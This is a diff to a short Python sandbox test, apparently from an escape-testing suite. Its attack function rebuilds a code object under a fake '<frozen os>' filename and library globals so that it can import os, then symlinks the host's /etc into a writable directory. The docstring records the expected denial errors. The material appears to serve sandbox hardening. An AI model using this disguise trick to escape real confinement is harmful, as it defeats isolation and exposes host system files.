@@ -1,4 +1,4 @@
-"""A code object rebuilt under a library's name imports `os` and makes no link.
+"""A code object rebuilt with a library's names imports `os` and makes no link.
 
 danger: read or write the host's files
 public: yes
@@ -11,6 +11,7 @@ admin: ENOENT
 admin@container: EACCES
 """
 
+import json
 import types
 
 POLICY = True
@@ -20,5 +21,5 @@ def attack(target):
     names = {}
     exec("def imports():\n    import os\n    return os\n", names)
     code = names["imports"].__code__.replace(co_filename="<frozen os>")
-    os = types.FunctionType(code, {"__builtins__": __builtins__})()
+    os = types.FunctionType(code, vars(json))()
     os.symlink("/etc", "%s/link-%d" % (target["open_directory"], os.getpid()))
